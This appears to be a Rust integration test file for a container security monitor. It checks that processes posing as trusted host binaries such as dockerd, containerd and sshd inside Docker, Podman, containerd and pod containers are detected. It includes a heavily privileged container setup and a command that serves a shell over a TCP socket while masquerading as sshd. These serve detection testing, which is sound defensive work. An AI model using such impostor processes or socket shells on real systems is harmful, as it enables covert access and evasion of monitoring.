//! Programs in containers under the names of programs that the shipped rules trust on the host.

use crate::attack::{Identity, impostor};
use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::victim::Victim;
use crate::containerd::Containerd;
use crate::cri::Pod;
use crate::docker::Docker;
use crate::image::IMPOSTORS;
use crate::podman::Podman;
use crate::{require_containerd, require_docker, require_podman};

#[test]
fn impostors_in_docker() {
    require_docker!();
    Daemon::shared();
    let container = Docker::shared().sleeper();
    // The others are tried in the tests below.
    for path in &IMPOSTORS[..3] {
        impostor(&|line| container.exec(line), Identity::new(&container.id, "docker"), path);
    }
}

/// It sees the host's processes and files, and may do nearly everything. (`--privileged` takes capabilities that not
/// every machine's root has.)
#[test]
fn impostor_in_a_container_that_may_do_much() {
    require_docker!();
    Daemon::shared();
    let options = "--pid host --ipc host --volume /:/host --security-opt seccomp=unconfined \
         --cap-add SYS_ADMIN --cap-add SYS_PTRACE --cap-add NET_ADMIN";
    let container = Docker::shared().container(options, "sleep 600");
    let identity = Identity { own_pids: false, ..Identity::new(&container.id, "docker") };
    impostor(&|line| container.exec(line), identity, "/usr/bin/dockerd");
}

#[test]
fn impostor_in_podman() {
    require_podman!();
    Daemon::shared();
    let container = Podman::shared().sleeper("runc");
    impostor(&|line| container.exec(line), Identity::new(&container.id, "podman"), "/usr/bin/conmon");
}

#[test]
fn impostor_under_containerd() {
    require_containerd!();
    Daemon::shared();
    let task = Containerd::shared().sleeper();
    impostor(&|line| task.exec(line), Identity::new(&task.id, "containerd"), IMPOSTORS[4]);
}

#[test]
fn impostor_in_a_pod() {
    require_containerd!();
    Daemon::shared();
    let pod = Pod::run("sleep 600");
    let identity = Identity { pod_uid: &pod.uid, ..Identity::new(&pod.id, "containerd") };
    impostor(&|line| pod.exec(line), identity, "/usr/bin/containerd");
}

/// With the connection on stdin and stdout, as sshd has it on the host before anybody has logged in.
#[test]
fn a_false_sshd_on_a_socket() {
    require_docker!();
    Daemon::shared();
    let container = Docker::shared().sleeper();
    let (attacker, second) = (Listener::tcp(), Listener::tcp());
    let line = format!(
        "/bin/attack dup 127.0.0.1 {} 012 /usr/sbin/sshd 127.0.0.1 {} /bin/sh",
        attacker.port(),
        second.port()
    );
    let victim = Victim::spawn(container.exec(&line));
    let sessions = (attacker.accept(), second.accept());
    let found = Daemon::shared().wait_for("the false sshd", |record| {
        record.peer_port() == Some(attacker.port())
            && record.text("Process_Binary_Fullpath") == "/usr/sbin/sshd"
    });
    assert_eq!((found.row(), found.severity()), (7, "LOW"), "{}", found.brief());
    Identity::new(&container.id, "docker").is_in(&found);
    drop((sessions, victim));
}
